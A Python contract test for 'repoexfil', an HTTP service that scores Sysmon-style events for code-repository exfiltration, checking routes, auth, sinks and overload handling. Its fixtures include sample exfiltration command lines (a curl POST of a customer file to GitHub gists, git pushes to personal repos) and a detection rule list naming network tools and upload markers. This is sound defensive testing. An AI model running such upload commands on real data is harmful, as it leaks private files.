#!/usr/bin/env python3
"""Contract test: openapi/openapi.yaml against the real binary.

1. Installs the pinned validators (`npm ci --prefix tests/contract`) when
   tests/contract/node_modules is missing; offline once installed.
2. Checks the checkers (tests/contract/selftest.mjs) and validates the
   OpenAPI document (validate-spec.mjs).
3. Starts `repoexfil serve --listen 127.0.0.1:0` (several instances: no
   auth, bearer tokens, HMAC, sinks pointed at a local receiver, one worker
   with a one-slot queue), exercises every route and every error status,
   checks what the contract cannot express (echoed X-Request-ID, verdicts,
   413 before the body, /openapi.yaml byte for byte), and records every
   answer to a JSON-lines file.
4. Validates every recorded answer with validate-responses.mjs.

Environment: REPOEXFIL_BIN (the binary), RX_SOURCE_DIR (the source tree),
RX_TEST_DATA (unused here), RX_SANITIZE. The recorded answers are kept
(their path is printed) when a check fails or RX_CONTRACT_KEEP=1.
Python 3 standard library only. Last line: "N passed, M failed".
"""
import hashlib
import hmac
import http.client
import json
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import threading
import time
import traceback
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from rxharness import BIN, SRC, Server, t  # noqa: E402

CONTRACT = os.path.join(SRC, "tests", "contract")
SPEC = os.path.join(SRC, "openapi", "openapi.yaml")


# --------------------------------------------------------------- results

class Tally:
    def __init__(self):
        self.passed = 0
        self.failed = 0
        self.skipped = 0

    def check(self, ok, label, detail=""):
        if ok:
            self.passed += 1
        else:
            self.failed += 1
            print(f"FAIL {label}" + (f": {detail}" if detail else ""), flush=True)
        return ok

    def skip(self, label, why):
        self.skipped += 1
        print(f"SKIP {label}: {why}", flush=True)


T = Tally()


# ---------------------------------------------------------------- server

def start_server(*args, name):
    """rxharness.Server (free loopback port, clean environment, sanitizer
    options), then waits until /readyz answers 200."""
    srv = Server(*args, name=name)
    deadline = time.time() + t(20)
    while time.time() < deadline:
        try:
            if request(srv.port, "GET", "/readyz", timeout=2).status == 200:
                return srv
        except (OSError, http.client.HTTPException):
            pass
        time.sleep(0.05)
    srv.kill()
    raise RuntimeError(f"{name}: /readyz never answered 200; stderr:\n" + "\n".join(srv.lines[-20:]))


def stop_server(srv, check_exit=True, timeout=40):
    rc = srv.stop(timeout=timeout)
    if check_exit:
        T.check(rc == 0, f"{srv.name}: exit status 0 after SIGTERM", f"{rc!r}; stderr tail:\n" + "\n".join(srv.lines[-10:]))
    rep = srv.sanitizer_report()
    T.check(rep is None, f"{srv.name}: no sanitizer report", rep or "")
    return rc


# ------------------------------------------------------------------ HTTP

class Answer:
    def __init__(self, status, headers, body):
        self.status = status
        self.headers = headers  # lower-case names
        self.body = body

    def header(self, name):
        return self.headers.get(name.lower())

    def json(self):
        try:
            return json.loads(self.body.decode("utf-8"))
        except (ValueError, UnicodeDecodeError):
            return None


def request(port, method, path, body=None, headers=None, timeout=30, send_body=True, conn=None):
    """Like rxharness.request, with control over Content-Length and whether
    the body is sent at all; the answer's headers are kept for the record."""
    own = conn is None
    if own:
        conn = http.client.HTTPConnection("127.0.0.1", port, timeout=t(timeout))
    try:
        conn.putrequest(method, path, skip_accept_encoding=True)
        hdrs = dict(headers or {})
        if body is not None and not any(k.lower() == "content-length" for k in hdrs):
            hdrs["Content-Length"] = str(len(body))
        for k, v in hdrs.items():
            conn.putheader(k, v)
        conn.endheaders()
        if body is not None and send_body:
            try:
                conn.send(body)
            except (BrokenPipeError, ConnectionResetError):
                pass  # the server answered early and closed; read the answer
        resp = conn.getresponse()
        data = resp.read()
        got = {}
        for k, v in resp.getheaders():
            k = k.lower()
            got[k] = f"{got[k]}, {v}" if k in got else v
        return Answer(resp.status, got, data)
    finally:
        if own:
            conn.close()


class Recorder:
    def __init__(self, path):
        self.path = path
        self.f = open(path, "w", encoding="utf-8")
        self.count = 0
        self.lock = threading.Lock()

    def add(self, method, path, ans):
        rec = {
            "method": method,
            "path": path,
            "status": ans.status,
            "content_type": ans.header("content-type"),
            "body": ans.body.decode("utf-8", "replace"),
            "headers": ans.headers,
        }
        with self.lock:
            self.f.write(json.dumps(rec) + "\n")
            self.count += 1

    def close(self):
        self.f.close()


REC = None


def call(srv, method, path, body=None, headers=None, expect=None, label=None, **kw):
    """Sends, records, checks the status and X-Request-ID; returns Answer
    (or None when the request itself failed)."""
    if isinstance(body, (dict, list)):
        body = json.dumps(body).encode()
        headers = {"Content-Type": "application/json", **(headers or {})}
    elif isinstance(body, str):
        body = body.encode()
    label = label or f"{srv.name}: {method} {path}"
    try:
        ans = request(srv.port, method, path, body, headers, **kw)
    except (OSError, http.client.HTTPException) as e:
        T.check(False, label, f"request failed: {e!r}")
        return None
    REC.add(method, path, ans)
    if expect is not None:
        exp = expect if isinstance(expect, (set, tuple, list)) else {expect}
        T.check(ans.status in exp, label, f"status {ans.status}, expected {sorted(exp)}; body {ans.body[:300]!r}")
    T.check(bool(ans.header("x-request-id")), f"{label}: X-Request-ID on the answer")
    return ans


def error_code(ans):
    j = ans.json() if ans else None
    if isinstance(j, dict) and isinstance(j.get("error"), dict):
        return j["error"].get("code")
    return None


def check_error(ans, code, label):
    if ans is None:
        return
    T.check(error_code(ans) == code, f"{label}: error code", f"got {error_code(ans)!r}, expected {code!r}; body {ans.body[:300]!r}")


# ------------------------------------------------------------ test data

CURL_GIST = {
    "EventID": 1, "UtcTime": "2023-11-14 22:13:20.123", "Computer": "WS01", "User": "CORP\\al",
    "Image": "C:\\Windows\\System32\\curl.exe",
    "CommandLine": "curl.exe -s -X POST https://api.github.com/gists -d @C:\\Users\\al\\q3-customers.json",
    "ParentImage": "C:\\Windows\\System32\\cmd.exe", "SourceName": "Microsoft-Windows-Sysmon",
}
CHROME_NET = {"EventID": 3, "Computer": "WS01", "Image": "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
              "DestinationHostname": "github.com"}
GIT_PUSH = {"EventID": "1", "_messageTime": "1700000000999", "Computer": "WS02", "User": "CORP\\bo",
            "Image": "C:\\Program Files\\Git\\cmd\\git.exe",
            "CommandLine": "git.exe push https://github.com/bo-personal/dump.git main",
            "ParentImage": "C:\\Windows\\explorer.exe"}
CI_NET = {"EventID": 3, "Computer": "jenkins-agent-07", "Image": "C:\\tools\\git.exe",
          "DestinationHostname": "lb-140-82-113-4-iad.github.com"}
XML_PUSH = ("<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
            "<Provider Name='Microsoft-Windows-Sysmon'/><EventID>1</EventID>"
            "<TimeCreated SystemTime='2023-11-14T22:13:20.1234567Z'/><Computer>WS03</Computer></System>"
            "<EventData><Data Name='Image'>C:\\Program Files\\Git\\cmd\\git.exe</Data>"
            "<Data Name='CommandLine'>git push https://gitlab.com/x/y.git</Data>"
            "<Data Name='ParentImage'>C:\\Program Files\\JetBrains\\bin\\idea64.exe</Data></EventData></Event>")
XML_QUIET = ("<Event><System><EventID>1</EventID><Computer>WS03</Computer></System>"
             "<EventData><Data Name='Image'>C:\\Windows\\notepad.exe</Data></EventData></Event>")

DEFAULT_RULES = {
    "repo_domains_network": ["github.com", "gitlab.com", "bitbucket.org", "dev.azure.com", "codeberg.org", "gist.github.com"],
    "repo_domains_push": ["github.com", "gitlab.com", "bitbucket.org", "dev.azure.com"],
    "repo_api_hosts": ["api.github.com", "api.gitlab.com", "gist.github.com"],
    "network_images": ["git.exe", "curl.exe", "wget.exe", "python.exe", "python3.exe", "powershell.exe", "pwsh.exe", "node.exe", "ruby.exe"],
    "git_images": ["git.exe"],
    "upload_images": ["curl.exe", "wget.exe", "python.exe", "python3.exe", "powershell.exe", "pwsh.exe", "node.exe", "ruby.exe"],
    "push_markers": ["push"],
    "upload_markers": ["-X PUT", "-X POST", "contents", "gists", "Invoke-RestMethod", "requests.put", "requests.post", "upload"],
    "ci_system_regex": "jenkins|gitlab-runner|ci[-_]|build[-_]|deploy|devops|runner|bamboo|teamcity",
    "known_ide_regex": "code\\.exe|idea64\\.exe|pycharm|devenv\\.exe|sourcetree|gitkraken|fork\\.exe|tower\\.exe",
    "threshold": 2,
}


def ndjson(*events):
    return "".join(json.dumps(e) + "\n" for e in events)


def check_answer(ans, label, received, alerts, errors=0, results=True):
    """Checks the counts of a 200 answer to POST /events."""
    if ans is None or ans.status != 200:
        return
    j = ans.json()
    if not T.check(isinstance(j, dict), f"{label}: JSON object answer", repr(ans.body[:200])):
        return
    T.check(j.get("received") == received, f"{label}: received", f"{j.get('received')} != {received}")
    T.check(j.get("alert_count") == alerts, f"{label}: alert_count", f"{j.get('alert_count')} != {alerts}")
    T.check(j.get("errors") == errors, f"{label}: errors", f"{j.get('errors')} != {errors}")
    T.check(j.get("evaluated") == received - errors, f"{label}: evaluated", f"{j.get('evaluated')} != {received - errors}")
    T.check(isinstance(j.get("alerts"), list) and len(j["alerts"]) == alerts, f"{label}: alerts rows")
    T.check(j.get("request_id") == ans.header("x-request-id"), f"{label}: request_id equals X-Request-ID",
            f"{j.get('request_id')!r} vs {ans.header('x-request-id')!r}")
    if results:
        T.check(isinstance(j.get("results"), list) and len(j["results"]) == received, f"{label}: one result per event")
    else:
        T.check("results" not in j, f"{label}: results left out")


# -------------------------------------------------------------- receiver

class Receiver:
    """Local sink receiver: /slack answers 200 "ok", /pd-bad 400, /hook 200."""

    def __init__(self):
        self.requests = []
        outer = self

        class H(BaseHTTPRequestHandler):
            def do_POST(self):
                n = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(n)
                outer.requests.append((self.path, body))
                if self.path.startswith("/slack"):
                    code, ctype, out = 200, "text/plain", b"ok"
                elif self.path.startswith("/pd-bad"):
                    code, ctype, out = 400, "application/json", b'{"status":"invalid event","message":"Event object is invalid"}'
                else:
                    code, ctype, out = 200, "application/json", b"{}"
                self.send_response(code)
                self.send_header("Content-Type", ctype)
                self.send_header("Content-Length", str(len(out)))
                self.end_headers()
                self.wfile.write(out)

            def log_message(self, *a):
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), H)
        self.port = self.httpd.server_address[1]
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)
        self.thread.start()

    def close(self):
        self.httpd.shutdown()
        self.httpd.server_close()


# ----------------------------------------------------------------- cases

def open_routes(srv):
    """The routes that are open whatever the auth settings."""
    n = srv.name
    a = call(srv, "GET", "/healthz", expect=200)
    T.check(a is not None and a.json() == {"status": "ok"}, f"{n}: /healthz body", a and a.body[:200])
    a = call(srv, "GET", "/readyz", expect=200)
    T.check(a is not None and a.json() == {"status": "ready"}, f"{n}: /readyz body", a and a.body[:200])
    a = call(srv, "GET", "/version", expect=200)
    j = a.json() if a else None
    T.check(isinstance(j, dict) and j.get("version") == "0.1.0" and j.get("name") == "repoexfil",
            f"{n}: /version name and version", a and a.body[:300])
    call(srv, "GET", "/metrics", expect=200)
    call(srv, "GET", "/openapi.yaml", expect=200)
    call(srv, "HEAD", "/healthz", expect=200)


def run_main(srv):
    n = srv.name
    open_routes(srv)
    a = call(srv, "GET", "/rules", expect=200)
    j = a.json() if a else None
    T.check(j == DEFAULT_RULES, f"{n}: /rules are SPEC section 1's defaults", a and a.body[:600])

    a = call(srv, "GET", "/openapi.yaml", expect=200)
    if a is not None:
        with open(SPEC, "rb") as f:
            T.check(a.body == f.read(), f"{n}: /openapi.yaml is openapi/openapi.yaml byte for byte",
                    "differs (rebuild after editing the contract?)")

    # POST /events: the SPEC's example answer, with the caller's request id.
    batch = [CURL_GIST, CHROME_NET, 42]
    a = call(srv, "POST", "/events", batch, {"X-Request-ID": "contract-0001"}, expect=200)
    check_answer(a, f"{n}: array", received=3, alerts=1, errors=1)
    if a is not None and a.status == 200:
        j = a.json()
        T.check(a.header("x-request-id") == "contract-0001" and j.get("request_id") == "contract-0001",
                f"{n}: caller's X-Request-ID echoed", f"{a.header('x-request-id')!r} / {j.get('request_id')!r}")
        r = j.get("results") or [{}, {}, {}]
        T.check(r[0].get("score") == 3 and r[0].get("signal") == "CodeRepoAPIUpload" and r[0].get("alert") is True,
                f"{n}: array: result 0 is CodeRepoAPIUpload 3", json.dumps(r[0]))
        T.check(r[1].get("score") == 0 and r[1].get("signal") is None and r[1].get("signals") == [],
                f"{n}: array: result 1 is 0", json.dumps(r[1]))
        T.check(isinstance(r[2].get("error"), str), f"{n}: array: result 2 is an error", json.dumps(r[2]))
        row = (j.get("alerts") or [{}])[0]
        T.check(row.get("_messageTime") == 1700000000123 and row.get("DestinationHostname", "absent") is None
                and row.get("Computer") == "WS01" and row.get("User") == "CORP\\al" and row.get("SuspicionScore") == 3,
                f"{n}: array: the alert row", json.dumps(row))
        T.check(list(row.keys()) == ["index", "_messageTime", "Computer", "User", "Image", "CommandLine", "ParentImage",
                                     "DestinationHostname", "Signal", "IsCISystem", "IsKnownIDE", "SuspicionScore"],
                f"{n}: array: alert row members in the query's order", json.dumps(list(row.keys())))

    a = call(srv, "POST", "/events", batch, {"X-Request-ID": "x" * 1000}, expect=200, label=f"{n}: insane X-Request-ID")
    if a is not None:
        rid = a.header("x-request-id") or ""
        T.check(rid and rid != "x" * 1000 and len(rid) <= 128, f"{n}: an insane X-Request-ID is replaced", rid[:60])
    a = call(srv, "POST", "/events", batch, expect=200, label=f"{n}: no X-Request-ID")
    check_answer(a, f"{n}: no X-Request-ID", received=3, alerts=1, errors=1)

    for q in ("?view=alerts", "?notify=false", "?notify=false&view=alerts", "?notify=true"):
        a = call(srv, "POST", "/events" + q, batch, expect=200)
        check_answer(a, f"{n}: {q}", received=3, alerts=1, errors=1, results="view=alerts" not in q)
    # Unknown query values are read leniently (openapi.yaml says so).
    for q in ("?view=everything", "?notify=maybe&view="):
        a = call(srv, "POST", "/events" + q, batch, expect=200)
        check_answer(a, f"{n}: {q}", received=3, alerts=1, errors=1, results=True)

    # Every content type.
    two = ndjson(GIT_PUSH, CHROME_NET)
    for ctype, body, recv, alerts in [
        ("application/x-ndjson", two + "\n\n", 2, 1),
        ("application/jsonl", two, 2, 1),
        ("application/x-ndjson", two + "{not json}\n", 3, 1),
        ("application/xml", "<Events>" + XML_PUSH + XML_QUIET + "</Events>", 2, 1),
        ("text/xml", XML_PUSH, 1, 1),
        ("text/plain", json.dumps([GIT_PUSH, CI_NET]), 2, 1),
        ("text/plain", XML_PUSH, 1, 1),
        ("application/octet-stream", two, 2, 1),
        ("application/json; charset=utf-8", json.dumps([GIT_PUSH]), 1, 1),
        (None, json.dumps(GIT_PUSH), 1, 1),
        (None, "<Events>" + XML_QUIET + "</Events>", 1, 0),
    ]:
        hdrs = {"Content-Type": ctype} if ctype else {}
        label = f"{n}: POST /events as {ctype or 'no Content-Type'}"
        a = call(srv, "POST", "/events", body, hdrs, expect=200, label=label)
        check_answer(a, label, received=recv, alerts=alerts, errors=1 if "{not json}" in body else 0)

    # Envelopes.
    for name, body, recv, alerts in [
        ("events wrapper", {"events": [GIT_PUSH, CHROME_NET]}, 2, 1),
        ("results as a string", {"search_name": "x", "results": json.dumps([GIT_PUSH, CURL_GIST])}, 2, 2),
        ("Splunk result", {"sid": "s1", "result": GIT_PUSH}, 1, 1),
        ("Splunk _raw XML", {"result": {"_raw": XML_PUSH}}, 1, 1),
        ("Elasticsearch hits", {"hits": {"hits": [{"_id": "1", "_source": {
            "@timestamp": "2023-11-14T22:13:20.123Z", "host": {"name": "WS01"},
            "winlog": {"provider_name": "Microsoft-Windows-Sysmon", "event_id": 3,
                       "event_data": {"Image": "C:\\Python311\\python.exe", "DestinationHostname": "codeload.github.com"}}}}]}}, 1, 1),
        ("array of _source", [{"_id": "a", "_source": GIT_PUSH}, {"_id": "b", "_source": CHROME_NET}], 2, 1),
        ("Wazuh alert", {"rule": {"id": "92000"}, "agent": {"name": "WS04"}, "data": {"win": {
            "system": {"eventID": "1", "computer": "WS04", "providerName": "Microsoft-Windows-Sysmon"},
            "eventdata": {"image": "C:\\Program Files\\Git\\cmd\\git.exe",
                          "commandLine": "git push https://dev.azure.com/org/p/_git/r"}}}}, 1, 1),
        ("Graylog backlog", {"event_definition_id": "x", "backlog": [{"fields": GIT_PUSH}, {"fields": CHROME_NET}]}, 2, 1),
        ("single event", CURL_GIST, 1, 1),
    ]:
        label = f"{n}: envelope {name}"
        a = call(srv, "POST", "/events", body, expect=200, label=label)
        check_answer(a, label, received=recv, alerts=alerts)

    # 400s.
    a = call(srv, "POST", "/events", '[{"EventID": 1},\n{"a":1},\n{oops}]', {"Content-Type": "application/json"},
             expect=400, label=f"{n}: malformed JSON")
    check_error(a, "bad_json", f"{n}: malformed JSON")
    if a is not None and a.status == 400:
        e = (a.json() or {}).get("error", {})
        T.check(e.get("line") == 3 and isinstance(e.get("column"), int) and e["column"] >= 1,
                f"{n}: malformed JSON: line 3 and a column", json.dumps(e))
    a = call(srv, "POST", "/events", "<Events><Event><System>", {"Content-Type": "application/xml"},
             expect={400, 200}, label=f"{n}: malformed XML")
    if a is not None and a.status == 400:
        check_error(a, "bad_xml", f"{n}: malformed XML")
    a = call(srv, "POST", "/events", "", {"Content-Type": "application/json"}, expect=400, label=f"{n}: empty body")
    check_error(a, "empty_body", f"{n}: empty body")
    a = call(srv, "POST", "/events", "   \n", {"Content-Type": "text/plain"}, expect=400, label=f"{n}: blank body")
    a = call(srv, "POST", "/events", "hello", {"Content-Type": "text/plain"}, expect=400, label=f"{n}: unsniffable body")

    # 415.
    for ctype in ("application/x-www-form-urlencoded", "text/csv", "multipart/form-data; boundary=x"):
        a = call(srv, "POST", "/events", "a=b", {"Content-Type": ctype}, expect=415, label=f"{n}: {ctype}")
        check_error(a, "unsupported_media_type", f"{n}: {ctype}")

    # 404, 405.
    for path in ("/nope", "/", "/events/", "/healthz/x"):
        a = call(srv, "GET", path, expect=404)
        check_error(a, "not_found", f"{n}: GET {path}")
    for method, path, allowed in (("GET", "/events", "POST"), ("PUT", "/events", "POST"), ("POST", "/healthz", "GET"),
                                  ("DELETE", "/rules", "GET"), ("POST", "/metrics", "GET"), ("GET", "/alerts/test", "POST"),
                                  ("POST", "/openapi.yaml", "GET")):
        a = call(srv, method, path, "" if method != "GET" else None, expect=405)
        check_error(a, "method_not_allowed", f"{n}: {method} {path}")
        if a is not None:
            allow = a.header("allow") or ""
            T.check(allowed in [m.strip() for m in allow.split(",")], f"{n}: {method} {path}: Allow lists {allowed}", repr(allow))

    # 413: Content-Length over max_body_bytes, answered before the body.
    t0 = time.time()
    a = call(srv, "POST", "/events", b"x" * 16, {"Content-Type": "application/json", "Content-Length": str(MAX_BODY + 1)},
             expect=413, label=f"{n}: Content-Length over max_body_bytes, no body sent", send_body=False, timeout=10)
    T.check(time.time() - t0 < t(5), f"{n}: 413 answered before the body is read")
    check_error(a, "body_too_large", f"{n}: Content-Length over max_body_bytes")
    a = call(srv, "POST", "/events", ndjson(*([GIT_PUSH] * (MAX_EVENTS + 1))), {"Content-Type": "application/x-ndjson"},
             expect=413, label=f"{n}: more than max_events")
    check_error(a, "too_many_events", f"{n}: more than max_events")
    a = call(srv, "POST", "/events", ndjson(*([GIT_PUSH] * MAX_EVENTS)), {"Content-Type": "application/x-ndjson"},
             expect=200, label=f"{n}: exactly max_events")
    check_answer(a, f"{n}: exactly max_events", received=MAX_EVENTS, alerts=MAX_EVENTS, results=True)

    # POST /alerts/test with no sink configured.
    a = call(srv, "POST", "/alerts/test", "", expect=200)
    j = a.json() if a else None
    if a is not None and a.status == 200:
        outs = {k: (v or {}).get("outcome") for k, v in ((j or {}).get("sinks") or {}).items()}
        T.check(outs == {"slack": "not_configured", "pagerduty": "not_configured", "webhook": "not_configured"},
                f"{n}: /alerts/test with no sinks", json.dumps(j))

    a = call(srv, "GET", "/metrics", expect=200)
    if a is not None:
        T.check(b"repoexfil_build_info" in a.body, f"{n}: /metrics has repoexfil_build_info")


def run_examples(srv):
    """The contract's own request examples are accepted, each scores as
    noted, and the "array" example gets the "alerting" answer example."""
    n = srv.name
    p = subprocess.run(["node", "dump-examples.mjs", SPEC], cwd=CONTRACT, capture_output=True, text=True, timeout=t(120))
    if not T.check(p.returncode == 0, "dump-examples.mjs", p.stderr[-500:]):
        return
    ex = json.loads(p.stdout)
    # Events and alerts each example holds (see openapi.yaml).
    expected = {
        ("array", "application/json"): (3, 1, 1),
        ("sumoLogic", "application/json"): (1, 1, 0),
        ("splunk", "application/json"): (1, 1, 0),
        ("winlogbeat", "application/json"): (1, 1, 0),
        ("example", "application/x-ndjson"): (2, 2, 0),
        ("example", "application/jsonl"): (1, 0, 0),
        ("example", "application/xml"): (1, 1, 0),
        ("example", "text/xml"): (1, 1, 0),
        ("example", "text/plain"): (1, 1, 0),
        ("example", "application/octet-stream"): (2, 2, 0),
    }
    T.check({(r["name"], r["content_type"]) for r in ex["requests"]} == set(expected),
            f"{n}: the request examples are the ones this test knows", json.dumps([(r["name"], r["content_type"]) for r in ex["requests"]]))
    for r in ex["requests"]:
        label = f"{n}: contract example {r['name']} ({r['content_type']})"
        a = call(srv, "POST", "/events?notify=false", r["body"], {"Content-Type": r["content_type"]},
                 expect=200, label=label)
        want = expected.get((r["name"], r["content_type"]))
        if want:
            check_answer(a, label, received=want[0], alerts=want[1], errors=want[2])
        if r["name"] == "array" and a is not None and a.status == 200:
            got = a.json() or {}
            doc = dict(ex["answers"]["alerting"])
            doc["request_id"] = got.get("request_id")
            T.check(got == doc, f"{n}: the array example gets the alerting answer example",
                    f"\n got {json.dumps(got)}\nwant {json.dumps(doc)}")


def run_tokens(srv):
    n = srv.name
    open_routes(srv)
    call(srv, "GET", "/nope", expect=404)
    call(srv, "GET", "/rules", expect=200, label=f"{n}: /rules is open")
    body = [GIT_PUSH]
    for label, hdrs, path in [
        ("no credentials", {}, "/events"),
        ("wrong bearer", {"Authorization": "Bearer tok-wrong"}, "/events"),
        ("bearer of another scheme", {"Authorization": "Basic dG9rLW5ldzo="}, "/events"),
        ("empty bearer", {"Authorization": "Bearer "}, "/events"),
        ("wrong ?token=", {}, "/events?token=tok-wrong"),
        ("bearer prefix of a token", {"Authorization": "Bearer tok-ne"}, "/events"),
    ]:
        a = call(srv, "POST", path, body, hdrs, expect=401, label=f"{n}: {label}")
        check_error(a, "unauthorized", f"{n}: {label}")
        if a is not None:
            T.check((a.header("www-authenticate") or "").lower().startswith("bearer"), f"{n}: {label}: WWW-Authenticate Bearer",
                    repr(a.header("www-authenticate")))
    for label, hdrs, path in [
        ("old token", {"Authorization": "Bearer tok-old"}, "/events"),
        ("new token", {"Authorization": "Bearer tok-new"}, "/events"),
        ("?token=", {}, "/events?token=tok-new"),
        ("?token= with view=alerts", {}, "/events?view=alerts&token=tok-old&notify=false"),
    ]:
        a = call(srv, "POST", path, body, hdrs, expect=200, label=f"{n}: {label}")
        check_answer(a, f"{n}: {label}", received=1, alerts=1, results="view=alerts" not in path)
    a = call(srv, "POST", "/alerts/test", "", expect=401, label=f"{n}: /alerts/test without credentials")
    check_error(a, "unauthorized", f"{n}: /alerts/test without credentials")
    call(srv, "POST", "/alerts/test", "", {"Authorization": "Bearer tok-new"}, expect=200,
         label=f"{n}: /alerts/test with a token")


def run_hmac(srv):
    n = srv.name
    body = json.dumps([GIT_PUSH, CHROME_NET]).encode()
    good = "sha256=" + hmac.new(b"s3cret-key", body, hashlib.sha256).hexdigest()
    other = "sha256=" + hmac.new(b"s3cret-key", body + b" ", hashlib.sha256).hexdigest()
    ct = {"Content-Type": "application/json"}
    for label, sig in [("no signature", None), ("tampered body", other), ("not sha256=", good[7:]),
                       ("wrong key", "sha256=" + hmac.new(b"other", body, hashlib.sha256).hexdigest())]:
        hdrs = dict(ct)
        if sig:
            hdrs["X-Signature-256"] = sig
        a = call(srv, "POST", "/events", body, hdrs, expect=401, label=f"{n}: {label}")
        check_error(a, "unauthorized", f"{n}: {label}")
    a = call(srv, "POST", "/events", body, {**ct, "X-Signature-256": good}, expect=200, label=f"{n}: good signature")
    check_answer(a, f"{n}: good signature", received=2, alerts=1)
    empty = "sha256=" + hmac.new(b"s3cret-key", b"", hashlib.sha256).hexdigest()
    call(srv, "POST", "/alerts/test", "", {"X-Signature-256": empty}, expect=200, label=f"{n}: /alerts/test signed")
    call(srv, "POST", "/alerts/test", "", expect=401, label=f"{n}: /alerts/test unsigned")
    call(srv, "GET", "/rules", expect=200, label=f"{n}: /rules is open")
    open_routes(srv)


def run_both(srv):
    """Tokens and a secret: either credential suffices, but a signature
    that is sent must verify, even next to a good token."""
    n = srv.name
    body = json.dumps([GIT_PUSH]).encode()
    good = "sha256=" + hmac.new(b"s3cret-key", body, hashlib.sha256).hexdigest()
    bad = "sha256=" + hmac.new(b"s3cret-key", body + b"x", hashlib.sha256).hexdigest()
    ct = {"Content-Type": "application/json"}
    for label, hdrs, status in [
        ("token alone", {"Authorization": "Bearer tok-1"}, 200),
        ("signature alone", {"X-Signature-256": good}, 200),
        ("token and signature", {"Authorization": "Bearer tok-1", "X-Signature-256": good}, 200),
        ("good token, bad signature", {"Authorization": "Bearer tok-1", "X-Signature-256": bad}, 401),
        ("bad token, good signature", {"Authorization": "Bearer nope", "X-Signature-256": good}, 200),
        ("nothing", {}, 401),
    ]:
        a = call(srv, "POST", "/events", body, {**ct, **hdrs}, expect=status, label=f"{n}: {label}")
        if status == 401:
            check_error(a, "unauthorized", f"{n}: {label}")


def run_sinks(srv, recv):
    n = srv.name
    a = call(srv, "POST", "/alerts/test", "", expect=200)
    if a is None or a.status != 200:
        return
    sinks = (a.json() or {}).get("sinks") or {}
    got = {k: ((v or {}).get("outcome"), (v or {}).get("status")) for k, v in sinks.items()}
    T.check(got.get("slack") == ("sent", 200), f"{n}: slack sent 200", json.dumps(sinks.get("slack")))
    T.check(got.get("webhook") == ("sent", 200), f"{n}: webhook sent 200", json.dumps(sinks.get("webhook")))
    T.check(got.get("pagerduty") == ("failed", 400), f"{n}: pagerduty failed 400", json.dumps(sinks.get("pagerduty")))
    paths = sorted({p.split("?")[0] for p, _ in recv.requests})
    T.check({"/slack", "/pd-bad", "/hook"} <= set(paths), f"{n}: every sink was called", repr(paths))


def run_overload(srv):
    """One worker, one queue slot: concurrent heavy batches get 503."""
    n = srv.name
    events = ndjson(*([CURL_GIST, GIT_PUSH, CHROME_NET, CI_NET] * 12500))  # 50000 events
    body = events.encode()
    results = []

    def one():
        try:
            ans = request(srv.port, "POST", "/events?notify=false&view=alerts", body,
                          {"Content-Type": "application/x-ndjson"}, timeout=120)
            REC.add("POST", "/events?notify=false&view=alerts", ans)
            results.append(ans)
        except (OSError, http.client.HTTPException) as e:
            results.append(e)

    for attempt in range(3):
        results.clear()
        threads = [threading.Thread(target=one) for _ in range(8)]
        for th in threads:
            th.start()
        for th in threads:
            th.join(t(180))
        codes = [r.status if isinstance(r, Answer) else repr(r) for r in results]
        T.check(all(c in (200, 503) for c in codes), f"{n}: concurrent heavy batches answer 200 or 503", repr(codes))
        busy = [r for r in results if isinstance(r, Answer) and r.status == 503]
        if busy:
            r = busy[0]
            check_error(r, "overloaded", f"{n}: queue full")
            ra = r.header("retry-after") or ""
            T.check(ra.strip().isdigit(), f"{n}: 503 has a numeric Retry-After", repr(ra))
            return
    T.skip(f"{n}: 503 overloaded", "no 503 in 3 rounds of 8 concurrent 50000-event batches")


def run_drain(srv):
    """SIGTERM while a heavy batch runs: on a kept-alive connection /readyz
    and POST /events answer 503 draining; the batch is still answered."""
    n = srv.name
    keep = http.client.HTTPConnection("127.0.0.1", srv.port, timeout=t(30))
    try:
        request(srv.port, "GET", "/healthz", conn=keep)
    except (OSError, http.client.HTTPException) as e:
        T.check(False, f"{n}: keep-alive connection", repr(e))
        return
    body = ndjson(*([CURL_GIST, GIT_PUSH, CHROME_NET, CI_NET] * 25000)).encode()  # 100000 events
    slow = []

    def heavy():
        try:
            ans = request(srv.port, "POST", "/events?notify=false&view=alerts", body,
                          {"Content-Type": "application/x-ndjson"}, timeout=120)
            REC.add("POST", "/events?notify=false&view=alerts", ans)
            slow.append(ans)
        except (OSError, http.client.HTTPException) as e:
            slow.append(e)

    # Time one heavy batch first, so that SIGTERM lands while the next one
    # is being scored (past its upload), whatever the build's speed.
    t0 = time.time()
    heavy()
    took = time.time() - t0
    slow.clear()
    th = threading.Thread(target=heavy)
    th.start()
    time.sleep(took * 0.5)
    srv.proc.send_signal(signal.SIGTERM)
    deadline = time.time() + t(5)
    while not srv.log_lines("draining") and time.time() < deadline:
        time.sleep(0.005)  # until the server says it drains
    saw = []
    for method, path, b in (("GET", "/readyz", None), ("POST", "/events", b"[]")):
        try:
            ans = request(srv.port, method, path, b, {"Content-Type": "application/json"} if b else None, conn=keep)
            REC.add(method, path, ans)
            saw.append((path, ans))
        except (OSError, http.client.HTTPException) as e:
            saw.append((path, e))
            break
    th.join(t(150))
    for path, ans in saw:
        if isinstance(ans, Answer):
            if path == "/readyz":
                T.check(ans.status == 503 and (ans.json() or {}).get("status") == "draining",
                        f"{n}: /readyz while draining", f"{ans.status} {ans.body[:100]!r}")
            else:
                T.check(ans.status == 503 and error_code(ans) == "draining",
                        f"{n}: POST /events while draining", f"{ans.status} {ans.body[:100]!r}")
        else:
            T.skip(f"{n}: {path} while draining", f"the kept-alive connection was closed ({ans!r})")
    # Admitted before SIGTERM (even if still uploading), so scored: 200.
    T.check(len(slow) == 1 and isinstance(slow[0], Answer) and slow[0].status == 200,
            f"{n}: the in-flight batch is answered 200",
            repr(slow and (getattr(slow[0], 'status', slow[0]))))
    keep.close()
    stop_server(srv, timeout=60)


# ------------------------------------------------------------------ main

MAX_BODY = 1 << 20
MAX_EVENTS = 200


def node_step(args, label, timeout=600):
    p = subprocess.run(args, cwd=CONTRACT, capture_output=True, text=True, timeout=timeout)
    for line in (p.stdout + p.stderr).strip().splitlines():
        print(f"{label}: {line}", flush=True)
    return p


def main():
    global REC
    for tool in ("node", "npm"):
